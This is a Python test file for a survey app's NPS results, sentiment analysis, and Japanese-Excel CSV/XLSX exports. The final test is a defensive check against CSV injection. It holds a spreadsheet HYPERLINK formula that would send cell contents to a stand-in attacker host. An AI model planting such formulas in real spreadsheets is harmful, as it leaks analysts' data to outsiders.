"""Results, exports and the voice each answer becomes: NPS beside the full 0-10 distribution
with top-box and top-2-box, intervals by the house's formulas, comments with their analysis,
CSV that Japanese Excel reads as UTF-8 and an Excel workbook."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from survey_support import SurveyWorld, run_jobs, web_client

from kizuna.analytics.intervals import nps_interval
from kizuna.feedback.models import Feedback, FeedbackAnalysis
from kizuna.surveys.export import export_responses
from kizuna.surveys.models import Survey
from kizuna.surveys.results import survey_results

SCORES = [10, 10, 9, 8, 8, 7, 6, 5, 3, 0]


def answer_all(world: SurveyWorld) -> None:
    client = web_client(world.kz)
    texts = {
        "detractor": ("disappointed", "部屋が狭くて残念でした"),
        "promoter": ("delighted", "スタッフの対応がとても丁寧で感動しました"),
    }
    for index, score in enumerate(SCORES):
        group = "promoter" if score >= 9 else "detractor" if score <= 6 else None
        answers: dict[str, object] = {"nps": score}
        if group:
            question, text = texts[group]
            answers[question] = text
        answer = client.post(
            f"/s/{world.key}",
            json={"response_key": f"result-test-{index:04d}", "answers": answers, "language": "ja"},
        )
        assert answer.status_code == 200, answer.text


def test_an_answer_appears_as_a_voice_with_its_analysis(world: SurveyWorld) -> None:
    answer_all(world)
    run_jobs(world.kz, world.workspace.id, ("event.deliver", "text.analyze"))
    with world.kz.session() as session:
        analysed = session.execute(
            select(Feedback.nps, FeedbackAnalysis.sentiment)
            .join(FeedbackAnalysis, FeedbackAnalysis.feedback_id == Feedback.id)
            .where(Feedback.workspace_id == world.workspace.id)
        ).all()
    by_score = dict(analysed)
    assert by_score[0] == "negative" and by_score[10] == "positive"
    with world.kz.session() as session:
        results = survey_results(session, session.get_one(Survey, world.survey_id), "ja")
    comments = {c.text: c for c in results.comments}
    assert comments["部屋が狭くて残念でした"].sentiment == "negative"
    assert comments["部屋が狭くて残念でした"].group == "detractor"
    assert comments["スタッフの対応がとても丁寧で感動しました"].sentiment == "positive"


def test_nps_sits_beside_the_full_distribution_with_top_boxes_and_its_interval(
    world: SurveyWorld,
) -> None:
    answer_all(world)
    with world.kz.session() as session:
        results = survey_results(session, session.get_one(Survey, world.survey_id), "ja")
    nps = results.questions[0]
    assert [n for _, _, n in nps.counts] == [1, 0, 0, 1, 0, 1, 1, 1, 2, 1, 2]
    score = nps.score
    assert score is not None and score.n == 10
    assert score.value == pytest.approx(100 * (3 - 4) / 10)
    low, high = nps_interval(3, 4, 10)
    assert (score.low, score.high) == (pytest.approx(100 * low), pytest.approx(100 * high))
    assert score.top_box == pytest.approx(0.2) and score.top2_box == pytest.approx(0.3)
    assert (score.promoters, score.passives, score.detractors) == (0.3, 0.3, 0.4)
    link = next(f for f in results.funnel if f.channel == "api")
    assert (link.started, link.completed) == (10, 10)
    assert results.completed == 10 and results.median_seconds is not None


def test_the_results_page_shows_the_funnel_scores_and_distribution(world: SurveyWorld) -> None:
    answer_all(world)
    client = web_client(world.kz)
    from web_support import log_in

    log_in(client, world.admin_email, world.password)
    page = client.get(
        f"/w/{world.slug}/surveys/{world.survey_id}", headers={"Accept-Language": "ja"}
    )
    assert page.status_code == 200
    for expected in (
        "チャネル別の回答率",
        "95%信頼区間",
        "トップ2ボックス",
        "0〜10 の全分布",
        "批判者",
    ):
        assert expected in page.text, expected
    api = web_client(world.kz).get(
        f"/api/v1/surveys/{world.survey_id}/results", headers={"X-API-Key": world.api_key}
    )
    assert api.status_code == 200 and api.json()["scores"][0]["metric"] == "nps"


def test_exports_open_in_japanese_excel(world: SurveyWorld) -> None:
    answer_all(world)
    with world.kz.session() as session:
        survey = session.get_one(Survey, world.survey_id)
        data = export_responses(session, survey, "csv", "ja")
        book = export_responses(session, survey, "xlsx", "ja")
    assert data.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["response_id", "state", "channel"] and "nps" in rows[0]
    assert len(rows) == 11
    assert any("部屋が狭くて残念でした" in cell for row in rows for cell in row)
    workbook = load_workbook(io.BytesIO(book), read_only=True)
    sheet = workbook["回答"]
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 11 and values[0][0] == "response_id"
    assert [row[0] for row in workbook["質問"].iter_rows(values_only=True)][1] == "nps"
    from kizuna.accounts.keys import create_api_key

    with world.kz.session() as session:
        viewer = create_api_key(session, session.merge(world.workspace), "viewer", "viewer")
    client = web_client(world.kz)
    path = f"/api/v1/surveys/{world.survey_id}/export?format=xlsx"
    assert client.get(path, headers={"X-API-Key": viewer}).status_code == 403  # needs exports.run
    owner = client.get(path, headers={"X-API-Key": world.api_key})
    assert owner.status_code == 200 and owner.content.startswith(b"PK")


def test_a_comment_written_as_a_formula_is_exported_as_text(world: SurveyWorld) -> None:
    """OWASP CSV injection: a respondent's '=HYPERLINK(...)' must not run in the analyst's
    spreadsheet, in the CSV or in the workbook."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    answer = web_client(world.kz).post(
        f"/s/{world.key}",
        json={
            "response_key": "formula-0001",
            "answers": {"nps": 2, "disappointed": formula},
            "language": "ja",
        },
    )
    assert answer.status_code == 200, answer.text
    with world.kz.session() as session:
        survey = session.get_one(Survey, world.survey_id)
        data = export_responses(session, survey, "csv", "ja")
        book = export_responses(session, survey, "xlsx", "ja")
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert "'" + formula in cells and formula not in cells
    workbook = load_workbook(io.BytesIO(book))  # not read-only: formulas show as data_type "f"
    written = [c for row in workbook["回答"].iter_rows() for c in row if c.value]
    assert any(c.value == "'" + formula and c.data_type == "s" for c in written)
    assert not any(c.data_type == "f" for c in written)
